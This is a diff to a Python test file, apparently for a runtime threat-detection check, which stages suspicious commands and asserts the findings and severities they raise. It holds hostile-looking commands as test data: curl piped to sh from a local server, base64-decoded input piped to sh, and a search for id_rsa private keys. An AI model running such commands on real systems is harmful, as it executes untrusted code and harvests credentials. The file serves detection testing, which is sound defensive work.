@@ -315,8 +315,8 @@ TYPE_OF = {
     "host_namespace_entry": ("PrivilegeEscalation:Runtime/SuspiciousCommand", 5.0),
 }
 PORT = 8089
-# a web server in the task: /p.sh a script, /p.sh.gz the same gzipped (sent in two parts, so the pipeline's stages are
-# all alive for a while), /ids lines of text sent slowly (an API a loop reads)
+# a web server in the task: /p.sh a script (/slow.sh the same, sent in two parts), /p.sh.gz the same gzipped
+# (sent in two parts, so the pipeline's stages are all alive for a while), /ids lines of text sent slowly
 SERVER = f"""
 import gzip, http.server, os, threading, time
 BODY = b"echo payload ran\\n"
@@ -327,6 +327,8 @@ class H(http.server.BaseHTTPRequestHandler):
         if self.path == "/ids":
             for i in range(4):
                 self.wfile.write(b"%d\\n" % i); self.wfile.flush(); time.sleep(0.4)
+        elif self.path == "/slow.sh":  # a real download takes a while: both ends of the pipe are alive
+            self.wfile.write(BODY[:5]); self.wfile.flush(); time.sleep(0.8); self.wfile.write(BODY[5:])
         elif self.path.endswith(".gz"):
             z = gzip.compress(BODY)
             self.wfile.write(z[:10]); self.wfile.flush(); time.sleep(0.8); self.wfile.write(z[10:])
@@ -386,7 +388,7 @@ def test_commands_staged_in_the_task(task_env: TaskEnv, tmp_path: Path) -> None:
     # one-shot download-and-execute: the sh -c holds the whole line
     assert run("app", ["sh", "-c", "curl -s file:///tmp/p.sh | sh"]) == (0, "payload ran\n")
     # the same typed at a prompt: an interactive shell reading its stdin forks curl and sh as siblings
-    assert run("worker", ["sh"], stdin="curl -s file:///tmp/p.sh | sh\n") == (0, "payload ran\n")
+    assert run("worker", ["sh"], stdin=f"curl -s {url}/slow.sh | sh\n") == (0, "payload ran\n")
     # decode-and-execute
     assert run("app", ["sh", "-c", "echo ZWNobyBkZWNvZGVkCg== | base64 -d | sh"]) == (0, "decoded\n")
     run("app", ["sh", "-c", "find /root /home -name id_rsa; true"])
@@ -420,7 +422,7 @@ def test_commands_staged_in_the_task(task_env: TaskEnv, tmp_path: Path) -> None:
         assert (f["type"], f["severity"]) == TYPE_OF[name], name
     assert context_of(found["download_pipe_to_shell"])["commandLineExample"] == "sh -c curl -s file:///tmp/p.sh | sh"
     assert context_of(found["decode_pipe_to_shell"])["commandLineExample"].endswith("| base64 -d | sh")
-    assert context_of(prompt)["commandLineExample"] == "curl -s file:///tmp/p.sh | sh"
+    assert context_of(prompt)["commandLineExample"] == f"curl -s {url}/slow.sh | sh"
     assert prompt["severity"] == 8.0
     assert prompt["service"]["runtimeDetails"]["process"]["executablePath"] == "/usr/bin/dash"
     assert (
